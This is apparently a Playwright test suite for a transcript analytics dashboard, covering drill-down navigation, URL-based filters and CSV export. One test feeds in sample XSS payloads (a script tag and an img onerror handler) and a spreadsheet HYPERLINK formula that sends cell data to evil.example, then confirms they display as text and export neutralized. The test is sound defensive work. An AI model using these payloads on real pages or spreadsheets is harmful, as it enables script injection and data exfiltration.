import { expect, test, type APIRequestContext, type Download, type Page } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { readFileSync } from 'node:fs';
import { apiKey } from '../fixtures';

// The analytics dashboard in Chromium against `npm start` with the seeded
// sample transcripts: overview → chart click → drill-down → transcript,
// filters in the URL, and the CSV export matching what the table counts.

const auth = () => ({ Authorization: `Bearer ${apiKey()}` });
const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

async function ingest(request: APIRequestContext, transcripts: Record<string, unknown>[]) {
  const created = await request.post('/v2/ingest-jobs', { headers: auth(), data: { transcripts } });
  expect(created.status()).toBe(202);
  const { id } = await created.json();
  for (let i = 0; i < 240; i++) {
    const job = await (await request.get(`/v2/ingest-jobs/${id}`, { headers: auth() })).json();
    if (job.status === 'done') return job;
    if (job.status === 'failed') throw new Error(`ingest job ${id} failed`);
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error(`ingest job ${id} did not finish`);
}

/** The drill-down's count once the table shows the current URL's page (not the previous one kept on screen). */
async function settledTotal(page: Page): Promise<number> {
  const table = page.getByRole('region', { name: 'Transcripts' });
  await expect(table).toHaveAttribute('aria-busy', 'false');
  await expect(table).not.toHaveAttribute('data-stale', /.*/);
  return Number((await page.getByTestId('transcript-total').innerText()).replace(/,/g, ''));
}

async function downloadCsv(page: Page): Promise<{ header: string[]; rows: string[][]; href: string }> {
  const link = page.getByRole('link', { name: 'Export CSV' });
  const href = (await link.getAttribute('href')) ?? '';
  const download: Promise<Download> = page.waitForEvent('download');
  await link.click();
  const file = await (await download).path();
  const records: string[][] = parse(readFileSync(file), { bom: true, relax_column_count: false });
  const [header, ...rows] = records;
  return { header: header ?? [], rows, href };
}

test('a bar click opens the drill-down filtered to it; a row opens the transcript; back returns', async ({ page }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Overview' })).toBeVisible();
  await expect(page.getByTestId('kpi-transcripts')).not.toHaveText('0');

  const product = page.getByRole('region', { name: 'Product', exact: true });
  await expect(product.locator('.recharts-bar-rectangle').first()).toBeVisible();
  await product.locator('.recharts-bar-rectangle').first().click();

  await expect(page).toHaveURL(/\/transcripts\?.*label=42%3A/);
  const label = decodeURIComponent(new URL(page.url()).searchParams.get('label') ?? '').replace(/^42:/, '');
  expect(label.length).toBeGreaterThan(0);
  await expect(page.getByRole('list', { name: 'Active filters' })).toContainText(`Product: ${label}`);
  const total = await settledTotal(page);
  expect(total).toBeGreaterThan(0);
  const firstRow = page.getByRole('region', { name: 'Transcripts' }).locator('tbody tr').first();
  await expect(firstRow.locator('td.col-m42')).toContainText(label);

  await firstRow.locator('a.excerpt').click();
  await expect(page).toHaveURL(/\/transcripts\/\d+/);
  await expect(page.getByRole('heading', { name: /^Transcript \d+$/ })).toBeVisible();
  await expect(page.getByTestId('transcript-text')).not.toBeEmpty();
  const productScores = page.getByRole('region', { name: 'Product scores' });
  await expect(productScores.locator('.pill')).toHaveText(label);
  await expect(productScores.getByRole('listitem')).toHaveCount(6);
  await expect(productScores.getByRole('button', { name: 'Correct a label' })).toBeEnabled();

  await page.goBack();
  await expect(page).toHaveURL(/\/transcripts\?.*label=42%3A/);
  await expect(page.getByRole('list', { name: 'Active filters' })).toContainText(`Product: ${label}`);
  await page.goBack();
  await expect(page.getByRole('heading', { name: 'Overview' })).toBeVisible();
});

test('a date range and a sentiment filter: the export holds exactly the rows the table counts', async ({ page }) => {
  await page.goto('/transcripts');
  await settledTotal(page); // hydrated: the filter controls answer
  const filters = page.getByRole('region', { name: 'Filters' });
  const from = day(-20);
  const to = day(-3);
  await filters.getByLabel('From', { exact: true }).fill(from);
  await expect(page).toHaveURL(new RegExp(`from=${from}`));
  await filters.getByLabel('To', { exact: true }).fill(to);
  await expect(page).toHaveURL(new RegExp(`to=${to}`));
  await filters.getByRole('button', { name: 'Sentiment' }).click();
  await filters.getByRole('group', { name: 'Sentiment' }).getByRole('checkbox', { name: 'Frustrated' }).check();
  await page.keyboard.press('Escape');
  await expect(page).toHaveURL(/label=201%3AFrustrated/);
  await expect(filters.getByRole('list', { name: 'Active filters' })).toContainText('Sentiment: Frustrated');

  const total = await settledTotal(page);
  expect(total).toBeGreaterThan(0);
  const rows = page.getByRole('region', { name: 'Transcripts' }).locator('tbody tr');
  await expect(rows.first().locator('td.col-m201')).toContainText('Frustrated');

  const csv = await downloadCsv(page);
  expect(csv.href).toBe(`/api/transcripts/export?from=${from}&to=${to}&label=201%3AFrustrated`);
  expect(csv.rows).toHaveLength(total);
  const at = csv.header.indexOf('occurred_at');
  const sentiment = csv.header.indexOf('Sentiment');
  expect(at).toBeGreaterThanOrEqual(0);
  for (const r of csv.rows) {
    expect(r[sentiment]).toBe('Frustrated');
    expect((r[at] ?? '').slice(0, 10) >= from && (r[at] ?? '').slice(0, 10) <= to).toBe(true);
  }

  // the filters live in the URL: a reload shows the same set
  await page.reload();
  expect(await settledTotal(page)).toBe(total);
});

test('markup and a formula in a transcript show as text and export neutralized', async ({ page, request }) => {
  const run = `xss${Math.random().toString(36).slice(2, 10)}`;
  const text = `=HYPERLINK("https://evil.example/?leak="&A1,"Refund") <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2"> My invoice is wrong again, case ${run}`;
  await ingest(request, [{ text, external_id: `e2e-${run}`, channel: 'chat' }]);

  await page.goto(`/transcripts?q=${run}`);
  expect(await settledTotal(page)).toBe(1);
  const row = page.getByRole('region', { name: 'Transcripts' }).locator('tbody tr').first();
  await expect(row).toContainText('<script>window.__pwned = 1</script>');

  await row.locator('a.excerpt').click();
  const shown = page.getByTestId('transcript-text');
  await expect(shown).toHaveText(text);
  expect(await shown.locator('script, img').count()).toBe(0);
  expect(await page.evaluate(() => (window as Window & { __pwned?: number }).__pwned)).toBeUndefined();

  await page.goto(`/transcripts?q=${run}`);
  expect(await settledTotal(page)).toBe(1);
  const csv = await downloadCsv(page);
  expect(csv.rows).toHaveLength(1);
  const cell = csv.rows[0]?.[csv.header.indexOf('text')] ?? '';
  expect(cell.startsWith(`'=HYPERLINK(`)).toBe(true);
  expect(cell).toBe(`'${text}`);
});

test('a filter change keeps the charts on screen, and an empty result says so with a way out', async ({ page }) => {
  await page.goto('/');
  await expect(page.locator('.recharts-bar-rectangle').first()).toBeVisible();
  await page.getByRole('region', { name: 'Filters' }).getByLabel('Search transcript text').fill('zzqx-nothing-matches-this');
  await expect(page).toHaveURL(/q=zzqx-nothing-matches-this/);
  await expect(page.getByText('No transcripts match these filters').first()).toBeVisible();
  await page.getByRole('button', { name: 'Clear filters' }).click();
  await expect(page).not.toHaveURL(/q=/);
  await expect(page.locator('.recharts-bar-rectangle').first()).toBeVisible();
});
